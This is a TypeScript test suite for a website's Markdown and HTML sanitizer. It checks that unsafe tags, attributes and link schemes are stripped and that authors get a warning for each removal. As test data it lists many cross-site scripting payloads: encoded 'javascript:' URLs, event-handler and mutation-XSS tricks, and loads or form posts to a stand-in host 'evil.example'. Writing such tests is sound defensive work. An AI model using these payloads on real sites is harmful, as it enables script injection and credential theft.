import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { bodyFaults, file, render, warningAt } from './markdown.ts';

const words = (text: string) => new Set(text.trim().split(/\s+/));

const safeTags = words(`
  a article blockquote br code del details div em h1 h2 h3 h4 h5 h6 hr img kbd li ol p pre s section span strong sub
  summary sup table tbody td th thead tr ul`);
const safeAttributes = words(`
  align alt aria-describedby aria-label class colspan data-footnote-backref data-footnote-ref data-footnotes dir height
  href hreflang id lang open role rowspan src start tabindex title width`);

const named: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

const decoded = (text: string) =>
  text.replace(/&(?:#x([\da-f]+)|#(\d+)|(\w+));?/gi, (whole, hex?: string, decimal?: string, name?: string) =>
    name ? (named[name] ?? whole) : String.fromCodePoint(hex ? parseInt(hex, 16) : Number(decimal)),
  );

// Browsers remove these characters from addresses.
const readAsAddress = (text: string) => decoded(text).replace(/[\0-\x20\x7f-\xa0]/g, '');

const tag = /<(\/?)([a-z][a-z\d]*)((?: [a-z_][\w-]*(?:="[^"]*")?)*)>/gi;

/** Parses the site's HTML. Anything but safe tags with safe attributes fails. */
function assertSafe(html: string): void {
  for (const [whole, , name, attributes] of html.matchAll(tag)) {
    assert.ok(safeTags.has(name!), whole);
    for (const [, attribute, value = ''] of attributes!.matchAll(/ ([\w-]+)(?:="([^"]*)")?/g)) {
      assert.ok(safeAttributes.has(attribute!), whole);
      if (attribute === 'href') assert.match(readAsAddress(value), /^(?:https?:|mailto:|tel:|#|\/(?![/\\]))/i, whole);
      if (attribute === 'src') assert.match(readAsAddress(value), /^\/(?![/\\])/, whole);
    }
  }
  assert.doesNotMatch(html.replace(tag, ''), /</);
}

/** A body's HTML; empty for a refused body, which reaches no page. */
const htmlIfAny = async (markdown: string) =>
  (await bodyFaults(markdown)).length > 0 ? '' : (await render(markdown)).html;

const escapes = (text: string, escape: (code: number) => string) =>
  [...text].map((letter) => escape(letter.charCodeAt(0))).join('');

const address = 'javascript:alert(1)';

/** Spellings of a scheme that browsers accept. */
const disguises: Record<string, string> = {
  plain: address,
  'in capitals': address.toUpperCase().replace('ALERT', 'alert'),
  'in mixed case': 'jAvAsCrIpT:alert(1)',
  'in decimal references': escapes(address, (code) => `&#${code};`),
  'in padded references without semicolons': escapes(address, (code) => `&#${String(code).padStart(7, '0')}`),
  'in hexadecimal references': escapes(address, (code) => `&#x${code.toString(16)};`),
  'in capital hexadecimal references': escapes(address, (code) => `&#X${code.toString(16).toUpperCase()};`),
  'with a named colon': 'javascript&colon;alert(1)',
  'after a space': ` ${address}`,
  'after a control character': `&#1;${address}`,
  'after a null character': `&#0;${address}`,
  'after a no-break space': `&nbsp;${address}`,
  'with a tab inside': 'java\tscript:alert(1)',
  'with a written tab inside': 'java&Tab;script:alert(1)',
  'with a line end inside': 'java\nscript:alert(1)',
  'with a written line end inside': 'java&NewLine;script&#10;:alert(1)',
  'after a soft hyphen': `&shy;${address}`,
};

const otherSchemes = [
  'vbscript:msgbox(1)',
  'VBScript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD4=',
  'livescript:x',
  'file:///etc/passwd',
  'blob:https://evil.example/x',
  'filesystem:x',
  'view-source:x',
  'feed:javascript:alert(1)',
  'jar:x',
  'about:blank',
  'intent:x',
];

describe('a link keeps only the schemes http, https, mailto, and tel', () => {
  for (const [name, href] of [...Object.entries(disguises), ...otherSchemes.map((scheme) => [scheme, scheme])]) {
    test(`an address is removed: ${name}`, async () => {
      const quoted = href!.replaceAll('"', '&quot;');
      const { html, warnings } = await render(`<a href="${quoted}">label</a>`);
      assertSafe(html);
      assert.match(html, /<a>label<\/a>/);
      assert.equal(warnings.length, 1);
      assert.match(warnings[0]!, warningAt(4, /href.*<a>/));
    });

    test(`an address in Markdown is removed: ${name}`, async () => {
      for (const markdown of [
        `[label](${href})`,
        `[label](<${href}> "title")`,
        `<${href}>`,
        `[label]\n\n[label]: ${href}`,
      ]) {
        assertSafe(await htmlIfAny(markdown));
      }
    });
  }

  for (const href of [
    'https://example.org/',
    'http://example.org/',
    'mailto:a@example.org',
    'tel:+16175550100',
    '/donate/',
    '#vision',
  ]) {
    test(`${href} stays`, async () => {
      const { html, warnings } = await render(`[label](${href})`);
      assertSafe(html);
      assert.ok(html.includes(`<a href="${href}">label</a>`), html);
      assert.deepEqual(warnings, []);
    });
  }
});

/** HTML that an author may paste, and the tag in the warning. */
const vectors: readonly (readonly [html: string, says: RegExp])[] = [
  ['<script>alert(1)</script>', /<script>/],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', /<script>/],
  ['Text <script>alert(1)', /<script>/],
  ['<<script>script>alert(1)</script>', /<script>/],
  ['<scr<script>ipt>alert(1)</scr</script>ipt>', /<script>/],
  ['<b <script>alert(1)</script>0', /<script/],
  ['<img src="/favicon.svg" alt="" onerror="alert(1)">', /<img>/],
  ['<img src="/favicon.svg" alt="" OnLoad=alert(1)>', /<img>/],
  ['<img src=x onerror=alert(1)>', /image x is missing/],
  ['<img src="`><script>alert(1)</script>`">', /missing/],
  ['<img src="/favicon.svg" srcset="//evil.example/x.png 2x" alt="">', /<img>/],
  ['<img src="javascript:alert(1)">', /missing/],
  ['<img src="data:image/svg+xml,<svg onload=alert(1)>">', /missing/],
  ['<img src="https://evil.example/x.png" alt="">', /missing/],
  ['<img src="//evil.example/x.png" alt="">', /missing/],
  ['<img src="/\\evil.example/x.png" alt="">', /missing/],
  ['<img src="\\\\evil.example/x.png" alt="">', /missing/],
  ['<img src="/&#9;/evil.example/x.png" alt="">', /missing/],
  ['![x](//evil.example/x.png)', /missing/],
  ['![x](https://evil.example/x.png)', /missing/],
  ['<picture><source srcset="//evil.example/x.png"><img src="/favicon.svg" alt=""></picture>', /<source>/],
  ['<p onclick="alert(1)">x</p>', /<p>/],
  ['<p style="background:url(//evil.example)">x</p>', /style.*<p>/],
  ['<span style="position:fixed;inset:0">x</span>', /style.*<span>/],
  ['<a href="/donate/" onmouseover="alert(1)">x</a>', /<a>/],
  ['<a href="/donate/" ping="//evil.example" target="_blank">x</a>', /<a>/],
  ['<details open ontoggle="alert(1)"><summary>x</summary></details>', /<details>/],
  ['<iframe src="//evil.example"></iframe>', /<iframe>/],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', /<iframe>/],
  ['<frameset><frame src="//evil.example"></frameset>x <embed src="//evil.example">', /<embed>/],
  ['<object data="//evil.example"><p>x</p></object>', /<object>/],
  ['<applet code="x"></applet>', /<applet>/],
  ['<video src="//evil.example" onerror=alert(1) poster="//evil.example"></video>', /<video>/],
  ['<audio src="//evil.example" autoplay></audio>', /<audio>/],
  ['<form action="//evil.example"><input name="card"><button>Give</button></form>', /<form>/],
  ['<input type="password" autofocus onfocus="alert(1)">', /<input>/],
  ['<textarea><script>alert(1)</script></textarea>', /<textarea>/],
  ['<select onchange="alert(1)"><option>x</option></select>', /<select>/],
  ['<button formaction="javascript:alert(1)">x</button>', /<button>/],
  ['<isindex action="javascript:alert(1)">', /<isindex>/],
  ['<base href="//evil.example/">', /<base>/],
  ['<meta http-equiv="refresh" content="0;url=//evil.example">', /<meta>/],
  ['<link rel="stylesheet" href="//evil.example/x.css">', /<link>/],
  ['<style>@import "//evil.example/x.css"</style>', /<style>/],
  ['<svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', /<svg>/],
  ['<svg><script>alert(1)</script></svg>', /<svg>/],
  ['<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>', /<svg>/],
  ['<svg><foreignObject><iframe src="//evil.example"></iframe></foreignObject></svg>', /<svg>/],
  ['<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', /<svg>/],
  ['<math><mi xlink:href="javascript:alert(1)">x</mi></math>', /<math>/],
  ['<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">', /<math>/],
  ['<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>', /<form>/],
  ['<template><script>alert(1)</script></template>', /<template>/],
  ['<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', /<noscript>/],
  ['<xmp><script>alert(1)</script></xmp>', /<xmp>/],
  ['<noembed><img src=x onerror=alert(1)></noembed>', /<noembed>/],
  ['<title><img src=x onerror=alert(1)></title>', /<title>/],
  ['<marquee onstart="alert(1)">x</marquee>', /<marquee>/],
  ['<x-component onclick="alert(1)" is="x">x</x-component>', /<x-component>/],
  ['<dialog open>x</dialog>', /<dialog>/],
  ['<label for="x">x</label>', /<label>/],
  ['<table background="//evil.example"><tr><td background="//evil.example">x</td></tr></table>', /<table>/],
  ['<blockquote cite="javascript:alert(1)">x</blockquote>', /<blockquote>/],
  ['<p\nonclick="alert(1)">x</p>', /<p>/],
  ['<body onload="alert(1)">', /<body>/],
  ['<html onclick="alert(1)">', /<html>/],
  ['<frameset onload="alert(1)"><frame src="//evil.example"></frameset>', /<frameset>/],
  ['x <tr onclick="alert(1)"> y', /<tr>/],
  ['<p onclick=alert(1)', /<p has no >/],
  ['</p onclick=alert(1)>', /<\/p>/],
  ['<?php echo 1 ?>', /<\?/],
  ['<!doctype html>', /<!/],
  ['<!-- x', /not closed/],
  ['> <body onload="alert(1)">\n> <p>x</p>', /<body>/],
];

describe('nothing dangerous reaches a page, and a warning names the removed part', () => {
  for (const [vector, says] of vectors) {
    test(vector, async () => {
      const { html, warnings } = await render(vector);
      assertSafe(html);
      assert.ok(
        warnings.some((warning) => warningAt(4, says).test(warning)),
        warnings.join('\n') || 'no warning',
      );
      for (const warning of warnings)
        assert.match(warning, /^src\/content\/pages\/en\/page\.md: line \d+: .*\. \w.*\.$/);
    });
  }

  test('invalid tags become text or nothing, and affect nothing else', async () => {
    for (const tail of [
      '<a href="javascript:alert(1)"',
      '<img src=x onerror=alert(1) ',
      '<script',
      '</script',
      '<![CDATA[<script>',
      '<script/x>alert(1)</script\n>',
      '<img/src="/favicon.svg"/onerror=alert(1)>',
      '<p/onclick=alert(1)>x</p>',
    ]) {
      const { html } = await render(`First.\n\n${tail}`);
      assertSafe(html);
      assert.match(html, /First\./);
    }
  });
});

test('elements without readable text are removed with their contents', async () => {
  for (const tag of [
    'script',
    'style',
    'iframe',
    'object',
    'noscript',
    'template',
    'textarea',
    'title',
    'xmp',
    'noembed',
    'noframes',
  ]) {
    const { html } = await render(`Before\n\n<${tag}>secret</${tag}>\n\nAfter`);
    assert.doesNotMatch(html, /secret/, tag);
    assert.match(html, /Before[^]*After/, tag);
  }
});

test('the text of a removed tag stays', async () => {
  for (const tag of ['font', 'center', 'button', 'form', 'label', 'marquee', 'u-word']) {
    assert.match((await render(`<${tag}>kept</${tag}>`)).html, /kept/, tag);
  }
});

test('a warning quotes the author’s text and its line', async () => {
  for (const attribute of ['style', 'onclick', 'class', 'srcset', 'data-x', 'contenteditable', 'role']) {
    const { warnings } = await render(`First.\n\n<p ${attribute}="x">Second.</p>`);
    assert.equal(warnings.length, 1);
    assert.match(warnings[0]!, warningAt(6, RegExp(`${attribute}="…" on <p>`)), attribute);
  }
});

test('each line with a removal has its own warning', async () => {
  const { warnings } = await render('<font>a</font>\n\n<font>b</font> <font>c</font>\n\n<p style="x">d</p>');
  assert.deepEqual(
    warnings.map((warning) => /line \d+: \S+/.exec(warning)![0]),
    ['line 4: <font>', 'line 6: <font>', 'line 8: style="…"'],
  );
});

test('a removal beside a similar element that stays has a warning, too', async () => {
  const { html, warnings } = await render('[a](/donate/) [b](javascript:alert(1)) [c](/news/)');
  assert.match(html, /href="\/donate\/".*<a>b<\/a>.*href="\/news\/"/);
  assert.match(warnings.join('\n'), warningAt(4, /href.*<a>/));
});

test('an address that a phone capitalized stays a link', async () => {
  const { html, warnings } = await render('[label](Https://example.org/)');
  assert.match(html, /<a href="https:\/\/example\.org\/">label<\/a>/);
  assert.deepEqual(warnings, []);
});

test('a class is removed from every tag with a warning', async () => {
  for (const tag of ['p', 'div', 'span', 'a', 'code', 'ul', 'li', 'h2', 'section']) {
    const { html, warnings } = await render(`<${tag} class="btn">x</${tag}>`);
    assert.doesNotMatch(html, /btn/, tag);
    assert.ok(warnings.length > 0, `${tag}: no warning`);
  }
});

describe('Markdown and plain HTML pass without a warning', () => {
  for (const markdown of [
    '## B\n\n###### C',
    '*a* **b** ~~c~~ `d`',
    '> quote\n\n---',
    '1. a\n2. b\n   - c',
    '| a | b |\n| :- | -: |\n| 1 | 2 |',
    '```js\nif (a < b && c > "d") alert(`<script>`)\n```',
    '<p lang="es" dir="ltr">Hola</p>',
    '<span lang="ht">anglè</span>',
    '<details open><summary>More</summary>Text</details>',
    'x<sup>2</sup> H<sub>2</sub>O <kbd>Enter</kbd><br>next',
    '<a href="/donar/" hreflang="es" lang="es">Donar</a>',
    '<img src="/favicon.svg" alt="Mark" width="20" height="20">',
    '![Mark](/favicon.svg "title")',
    'A note.[^1]\n\n[^1]: The note.',
    '- [x] done\n- [ ] to do',
    'https://example.org and a@example.org',
    '<!-- a comment -->Text',
    '<!-- <body>\n\n<p -->Text',
    '<strong>a<p>b</strong>c</p>',
    '<ul><li>a<li>b</ul>',
    '<table><strong>x</strong><tr><td>y</table>',
    '<p title="a > <b>">x</P\n>',
    '1 < 2 && 3 > 2 "quoted" ’ é 🙂',
  ]) {
    test(markdown, async () => {
      const { html, warnings } = await render(markdown);
      assert.deepEqual(warnings, []);
      assertSafe(html);
      assert.ok(html.length > 0);
    });
  }
});

test('a link within the page leads to an existing element', async () => {
  for (const markdown of [
    'A note.[^1]\n\n[^1]: The note.',
    '<p id="check">Check</p>\n\n[Check](#check)',
    '## Check\n\n[Check](#check)',
  ]) {
    const { html } = await render(markdown);
    const ids = [...html.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id);
    const targets = [...html.matchAll(/ href="#([^"]*)"/g)].map(([, target]) => target);
    assert.ok(targets.length > 0);
    for (const target of targets) assert.ok(ids.includes(target), `#${target} in ${html}`);
  }
});

test('warnings name the rendered file', async () => {
  const { warnings } = await render('<font>x</font>');
  assert.ok(warnings.every((warning) => warning.startsWith(`${file}: `)) && warnings.length === 1);
});
